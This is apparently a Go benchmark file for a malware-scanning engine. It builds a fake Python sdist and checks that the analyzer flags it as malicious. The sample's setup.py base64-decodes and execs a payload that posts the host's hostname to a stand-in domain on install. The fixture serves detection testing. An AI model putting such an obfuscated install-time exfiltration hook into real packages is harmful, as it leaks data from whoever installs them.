package analyze

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"fmt"
	"testing"

	"github.com/safeguard-dev/safeguard/internal/artifact"
)

// benchSdist builds an sdist of n modules of ordinary code plus a setup.py
// that decodes and runs a payload, so every stage of the engine works.
func benchSdist(b *testing.B, n int) []byte {
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	add := func(name, body string) {
		tw.WriteHeader(&tar.Header{Name: "p-1/" + name, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg})
		tw.Write([]byte(body))
	}
	add("setup.py", "import base64, os\nexec(base64.b64decode('"+b64("import socket, requests\nrequests.post('https://x.invalid', data=socket.gethostname())")+"'))\nfrom setuptools import setup\nsetup()\n")
	add("p/__init__.py", "from .mod0 import *\n")
	for i := range n {
		var body bytes.Buffer
		fmt.Fprintf(&body, "import os, subprocess, json\n\n")
		for j := range 40 {
			fmt.Fprintf(&body, "def f%d_%d(path, opts=None):\n    data = json.loads(open(os.path.join(path, 'x%d.json')).read())\n    if opts:\n        subprocess.check_call(['git', 'status'])\n    return [k for k in data if k.startswith('%d')]\n\n", i, j, j, j)
		}
		add(fmt.Sprintf("p/mod%d.py", i), body.String())
	}
	tw.Close()
	zw.Close()
	return buf.Bytes()
}

// BenchmarkScan reads and analyses a whole sdist; bytes/s is of packed input.
func BenchmarkScan(b *testing.B) {
	data := benchSdist(b, 50)
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	for b.Loop() {
		a, err := artifact.Read(b.Context(), "p-1.tar.gz", data, artifact.Options{})
		if err != nil {
			b.Fatal(err)
		}
		if r := Analyze(b.Context(), a); r.Verdict != Malicious {
			b.Fatalf("verdict %s", r.Verdict)
		}
	}
}

// BenchmarkAnalyze is the engine alone, on an artifact already read.
func BenchmarkAnalyze(b *testing.B) {
	a, err := artifact.Read(b.Context(), "p-1.tar.gz", benchSdist(b, 50), artifact.Options{})
	if err != nil {
		b.Fatal(err)
	}
	b.SetBytes(a.UncompressedBytes)
	b.ReportAllocs()
	for b.Loop() {
		Analyze(b.Context(), a)
	}
}
